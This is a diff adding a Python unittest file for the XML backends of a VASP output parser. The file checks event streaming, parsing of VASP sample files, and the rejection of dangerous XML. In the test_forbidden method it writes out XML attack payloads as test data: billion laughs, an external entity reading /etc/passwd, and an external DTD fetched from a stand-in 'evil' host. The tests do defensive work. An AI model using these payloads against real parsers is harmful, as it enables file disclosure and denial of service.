@@ -0,0 +1,123 @@
+# coding: utf-8
+# Copyright (c) Max-Planck-Institut für Eisenforschung GmbH - Computational Materials Design (CM) Department
+# Distributed under the terms of "New BSD License", see the LICENSE file.
+
+import importlib.util
+import io
+import os
+import posixpath
+import unittest
+import numpy as np
+from defusedxml.common import DTDForbidden
+from defusedxml.ElementTree import ParseError
+from vaspparser.vasp.vasprun import Vasprun, VasprunError
+from vaspparser.vasp.xml_backend import XML_BACKENDS, get_default_backend, iterparse
+
+BACKENDS = [
+    backend
+    for backend in XML_BACKENDS
+    if backend != "lxml" or importlib.util.find_spec("lxml") is not None
+]
+
+
+class TestXmlBackend(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls):
+        cls.direc = os.path.join(
+            os.path.dirname(os.path.abspath(__file__)),
+            "../static/vasp_test_files/vasprun_samples",
+        )
+
+    def test_default_backend(self):
+        self.assertIn(get_default_backend(), XML_BACKENDS)
+        if importlib.util.find_spec("lxml") is None:
+            self.assertEqual(get_default_backend(), "defusedxml")
+        self.assertRaises(ValueError, iterparse, io.BytesIO(b"<a/>"), backend="sax")
+
+    def test_iterparse(self):
+        xml = b'<?xml version="1.0" encoding="ISO-8859-1"?>\n<a x="1"><b>text</b><!-- c --><c/></a>'
+        for backend in BACKENDS:
+            with self.subTest(backend=backend):
+                # a small chunk size splits the prolog and the elements, the text is only complete at the end
+                events = [
+                    (
+                        event,
+                        leaf.tag,
+                        leaf.text if event == "end" else None,
+                        dict(leaf.attrib),
+                    )
+                    for event, leaf in iterparse(
+                        io.BytesIO(xml), backend=backend, chunk_size=8
+                    )
+                ]
+                self.assertEqual(
+                    events,
+                    [
+                        ("start", "a", None, {"x": "1"}),
+                        ("start", "b", None, {}),
+                        ("end", "b", "text", {}),
+                        ("start", "c", None, {}),
+                        ("end", "c", None, {}),
+                        ("end", "a", None, {"x": "1"}),
+                    ],
+                )
+
+    def test_forbidden(self):
+        for backend in BACKENDS:
+            with self.subTest(backend=backend):
+                for xml in [
+                    b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x "y">]>\n<a>&x;</a>',
+                    b'<!-- c -->\n<!DOCTYPE a SYSTEM "file:///etc/passwd">\n<a/>',
+                ]:
+                    self.assertRaises(
+                        DTDForbidden, list, iterparse(io.BytesIO(xml), backend=backend)
+                    )
+                for xml in [
+                    # billion laughs
+                    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
+                    b'<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
+                    b'<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">\n'
+                    b"]>\n<lolz>&lol2;</lolz>",
+                    # external entity
+                    b'<?xml version="1.0"?>\n<!DOCTYPE a [\n'
+                    b'<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<a>&xxe;</a>',
+                    # external parameter entity
+                    b'<?xml version="1.0"?>\n<!DOCTYPE a [\n'
+                    b'<!ENTITY % dtd SYSTEM "http://example.com/evil.dtd">\n%dtd;\n]>\n<a/>',
+                ]:
+                    # the document type declaration is rejected before any entity is declared, also if the prolog
+                    # is split into several chunks
+                    for chunk_size in [8, 2**14]:
+                        self.assertRaises(
+                            DTDForbidden,
+                            list,
+                            iterparse(
+                                io.BytesIO(xml), backend=backend, chunk_size=chunk_size
+                            ),
+                        )
+                for xml in [b"<a><b></a>", b"<a><b>", b"", b"<a>&xxe;</a>"]:
+                    self.assertRaises(
+                        ParseError, list, iterparse(io.BytesIO(xml), backend=backend)
+                    )
+
+    def test_vasprun(self):
+        for f in ["vasprun_1.xml", "vasprun_2.xml"]:
+            filename = posixpath.join(self.direc, f)
+            vp_dicts = list()
+            for backend in BACKENDS:
+                vp = Vasprun()
+                vp.from_file(filename, xml_backend=backend)
+                vp_dicts.append(vp.vasprun_dict)
+            for vp_dict in vp_dicts[1:]:
+                np.testing.assert_equal(vp_dict, vp_dicts[0])
+        for backend in BACKENDS:
+            self.assertRaises(
+                VasprunError,
+                Vasprun().from_file,
+                posixpath.join(self.direc, "vasprun_spoilt.xml"),
+                xml_backend=backend,
+            )
+
+
+if __name__ == "__main__":
+    unittest.main()